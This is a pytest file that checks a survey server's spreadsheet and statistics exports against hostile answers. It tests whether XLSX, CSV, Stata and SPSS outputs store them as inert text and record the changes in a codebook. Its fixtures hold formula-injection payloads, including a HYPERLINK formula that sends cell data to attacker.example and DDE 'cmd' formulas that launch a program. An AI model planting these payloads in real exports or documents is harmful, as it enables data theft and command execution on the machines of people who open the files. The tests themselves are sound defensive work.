"""Issue 21: answers planted to attack whoever opens an export — formulas, DDE, error values,
control characters, texts longer than a cell — read back as the analyst's tools read them
(openpyxl, the CSV module, pandas, pyreadstat). XLSX: every text is a text cell, in every
sheet, and the file opens; CSV: guarded with a leading ' unless --raw; Stata and SPSS: every
value they can hold, and the codebook says what was changed."""

import csv
import hashlib
import io
import json
import uuid as uuidlib
import zipfile

import pytest

from central_server import accounts, published_forms
from central_server.merged import exporting
from form_engine.authoring import write_xlsform
from tests.central_server.test_api import push

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&C2&D2,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=مرحبا&A1",
    "-",
]
SAFE = ["-5", "+3.5", "-0.25e3", "Amina", "a=b", "#N/A", "1-2"]
CONTROL = "first\x01line\x1b[31m red \x07"
LONG = "ሀ" * 40_000  # Ethiopic: 3 bytes a character in UTF-8


@pytest.fixture
def hostile(server, login, tmp_path):
    """A form with text answers in the main table and in a repeat, filled with the payloads."""
    path = tmp_path / "hostile.xlsx"
    write_xlsform(
        path,
        [
            {"type": "text", "name": "answer", "label": "+1 label"},
            {"type": "integer", "name": "n", "label": "A number"},
            {"type": "begin_repeat", "name": "members", "label": "Members"},
            {"type": "text", "name": "member_name", "label": "Name"},
            {"type": "end_repeat", "name": "members", "label": ""},
        ],
        settings={"form_id": "hostile", "version": "1"},
    )
    with server.app.state.engine.begin() as conn:
        published_forms.publish(conn, path)
    token = login("amina")
    items = []
    for text in [*FORMULAS, *SAFE, CONTROL, LONG]:
        uuid = str(uuidlib.uuid4())
        data = {
            "answer": text,
            "n": -5,
            "members": [{"member_name": text}],
            "meta/instanceID": f"uuid:{uuid}",
        }
        body = json.dumps(data, ensure_ascii=False, separators=(",", ":"))
        items.append(
            {
                "uuid": uuid,
                "form_id": "hostile",
                "form_version": "1",
                "revision": 1,
                "json_text": body,
                "sha256": hashlib.sha256(body.encode()).hexdigest(),
            }
        )
    r = push(server, token, items)
    assert {x["status"] for x in r.json()["results"]} == {"stored"}, r.text
    server.checked()
    return server


def _export(server, tmp_path, fmt: str, **options) -> zipfile.ZipFile | bytes:
    out = tmp_path / f"out.{fmt}"
    with server.app.state.engine.connect() as conn:
        src = exporting.source(conn, accounts.principal_of(conn, "secretariat"), "hostile")
        exporting.export(conn, src, fmt, out, **options)
    return out


def test_xlsx_holds_every_answer_as_text_never_a_formula(hostile, tmp_path):
    from openpyxl import load_workbook

    out = _export(hostile, tmp_path, "xlsx")
    with zipfile.ZipFile(out) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml and b't="e"' not in xml
    book = load_workbook(out)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
    answers = [r[0].value for r in book["hostile"].iter_rows(min_row=2)]
    answer_col = [c.value for c in book["hostile"][1]].index("answer")
    answers = [r[answer_col].value for r in book["hostile"].iter_rows(min_row=2)]
    for text in [*FORMULAS, *SAFE]:
        assert text.replace("\r", "\n") in [a.replace("\r", "\n") for a in answers], text
    assert "first␁line␛[31m red ␇" in answers
    assert "ሀ" * 32_767 in answers
    members = book["hostile-members"]
    name_col = [c.value for c in members[1]].index("member_name")
    assert "=cmd|' /C calc'!A0" in [r[name_col].value for r in members.iter_rows(min_row=2)]
    codebook = {(r[0].value, r[1].value): r for r in book["codebook"].iter_rows(min_row=2)}
    notes_col = [c.value for c in book["codebook"][1]].index("notes")
    said = codebook[("hostile", "answer")][notes_col].value
    assert "1 value held control characters" in said and "cut" in said
    assert codebook[("hostile", "answer")][3].value == "+1 label"  # a label, as text


def _csv_answers(out) -> tuple[list[str], list[str], dict]:
    with zipfile.ZipFile(out) as z:
        main = list(csv.DictReader(io.StringIO(z.read("hostile.csv").decode("utf-8-sig"))))
        members = list(
            csv.DictReader(io.StringIO(z.read("hostile-members.csv").decode("utf-8-sig")))
        )
        book = {
            (r["table"], r["column"]): r
            for r in csv.DictReader(io.StringIO(z.read("codebook.csv").decode("utf-8-sig")))
        }
    return [r["answer"] for r in main], [r["member_name"] for r in members], book


def test_csv_guards_formulas_but_never_numbers_and_raw_gives_them_as_typed(hostile, tmp_path):
    answers, members, book = _csv_answers(_export(hostile, tmp_path, "csv"))
    for text in FORMULAS:
        assert "'" + text in answers and "'" + text in members, text
    for text in SAFE:
        assert text in answers, text
    assert CONTROL in answers and LONG in answers  # CSV holds them as typed
    assert all(a[:1] not in "=+-@\t\r" or a in SAFE for a in answers)
    said = book[("hostile", "answer")]["notes"]
    assert f"{len(FORMULAS)} values began with = + - @" in said
    assert book[("hostile", "n")]["notes"] == ""  # -5 as a number: nothing changed
    assert book[("hostile", "answer")]["label::"] == "'+1 label"

    answers, members, book = _csv_answers(_export(hostile, tmp_path, "csv", raw=True))
    for text in FORMULAS:
        assert text in answers and text in members, text
    assert book[("hostile", "answer")]["notes"] == ""


def test_stata_and_spss_hold_every_value_and_say_what_they_cut(hostile, tmp_path):
    import pyreadstat

    for fmt in ("dta", "sav"):
        out = _export(hostile, tmp_path, fmt)
        with zipfile.ZipFile(out) as z:
            z.extractall(tmp_path / fmt)
            book = {
                (r["table"], r["column"]): r
                for r in csv.DictReader(io.StringIO(z.read("codebook.csv").decode("utf-8-sig")))
            }
        read = pyreadstat.read_dta if fmt == "dta" else pyreadstat.read_sav
        frame, _ = read(str(tmp_path / fmt / f"hostile.{fmt}"))
        answers = frame["answer"].tolist()
        assert len(answers) == len(FORMULAS) + len(SAFE) + 2
        assert CONTROL in answers and "=cmd|' /C calc'!A0" in answers
        assert list(frame["n"]) == [-5] * len(answers)
        longest = max(answers, key=len)
        if fmt == "dta":
            assert longest == LONG  # Stata's strL holds it whole
            assert book[("hostile", "answer")]["notes"] == ""
        else:
            assert len(longest.encode()) <= 32_767 and LONG.startswith(longest)
            assert "1 value longer than SPSS's 32,767 bytes" in book[("hostile", "answer")]["notes"]


def test_a_nul_is_written_visibly_in_stata_and_spss_and_said(server, login, tmp_path):
    import pyreadstat

    path = write_xlsform(
        tmp_path / "nul.xlsx",
        [{"type": "text", "name": "answer", "label": "Answer"}],
        settings={"form_id": "nul", "version": "1"},
    )
    with server.app.state.engine.begin() as conn:
        published_forms.publish(conn, path)
    uuid = str(uuidlib.uuid4())
    body = json.dumps({"answer": "=1+1\x00after", "meta/instanceID": f"uuid:{uuid}"})
    item = {
        "uuid": uuid, "form_id": "nul", "form_version": "1", "revision": 1,
        "json_text": body, "sha256": hashlib.sha256(body.encode()).hexdigest(),
    }  # fmt: skip
    assert push(server, login("amina"), [item]).json()["results"][0]["status"] == "stored"
    server.checked()
    for fmt in ("dta", "sav"):
        out = tmp_path / f"nul.{fmt}.zip"
        with server.app.state.engine.connect() as conn:
            src = exporting.source(conn, accounts.principal_of(conn, "secretariat"), "nul")
            exporting.export(conn, src, fmt, out)
        with zipfile.ZipFile(out) as z:
            z.extractall(tmp_path / fmt)
            book = z.read("codebook.csv").decode()
        read = pyreadstat.read_dta if fmt == "dta" else pyreadstat.read_sav
        frame, _ = read(str(tmp_path / fmt / f"nul.{fmt}"))
        assert frame["answer"].tolist() == ["=1+1␀after"], fmt
        assert "NUL character" in book
